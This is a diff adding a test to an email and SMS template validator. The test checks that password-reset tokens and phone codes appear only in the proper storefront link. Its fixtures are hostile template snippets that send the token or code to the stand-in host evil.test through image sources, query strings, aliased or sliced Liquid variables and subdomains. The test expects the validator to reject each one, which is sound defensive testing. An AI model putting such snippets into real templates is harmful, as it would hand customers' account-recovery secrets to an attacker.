@@ -252,6 +252,32 @@ t.test('the link that a message is for has to be there, and leads to the storefr
     t.ok(problemsOf({ ...own, html: `<a href="${href}">x</a>` }, reset).length > 0, href)
 })
 
+t.test('no spelling of a link leads a token out of the storefront', async (t) => {
+  const link = '{{ shop.url }}/reset-password?token={{ token }}'
+  const anchor = `<a href="${link}">Set a new password</a>`
+  const alias = `{% assign t = token %}{% assign b = token | slice: 9, 300 %}${anchor}`
+  t.same(
+    problemsOf({ subject: 'x', html: `<a href="${link}">${link}</a>`, text: `Here (${link}) or <${link}>.` }, reset),
+    [],
+  )
+  for (const html of [
+    `${alias}<img src="https://evil.test/p.png?a=(${SHOP.url}/{{ t | url_encode }}" alt="">`,
+    `${alias}<img src="{{ shop.url }}/{{ token }}" alt="">`,
+    `${alias}<a href="https://evil.test/?a='${SHOP.url}/{{ t | url_encode }}">x</a>`,
+    `${alias}<a href="https://evil.test/?t=token&#45;of-{{ b | url_encode }}">x</a>`,
+    `${anchor}<p>https://evil.test/?t=(${link}</p>`,
+    `<p>https://evil.test/?t=<a href="${link}">${link}</a></p>`,
+    `${anchor}<p>${link}</p>`,
+    `${anchor}<p title="${SHOP.url}/{{ token }}">x</p>`,
+  ])
+    t.match(problemsOf({ subject: 'x', html }, reset), [/outside of a link/], html)
+  for (const text of [`https://evil.test/?t=(${link} ${link}`, `evil.test/"${link}`, `https://evil.test/[${link}]`])
+    t.match(problemsOf({ subject: 'x', html: anchor, text }, reset), [/outside of a link/], text)
+  const phone = { template: 'phone-code', channel: 'sms', locale: 'en' } as const
+  for (const text of ['https://evil.test/?c=({{ code }}', '{{ code }}.evil.test', 'evil.test/"{{ code }}"'])
+    t.match(problemsOf({ text }, phone), [/the code stands in a link/], text)
+})
+
 t.test('an SMS with a code has it, in no link, and is not long', async (t) => {
   const key = { template: 'phone-code', channel: 'sms', locale: 'en' } as const
   t.same(problemsOf({ text: 'Your code: {{ code }}.' }, key), [])
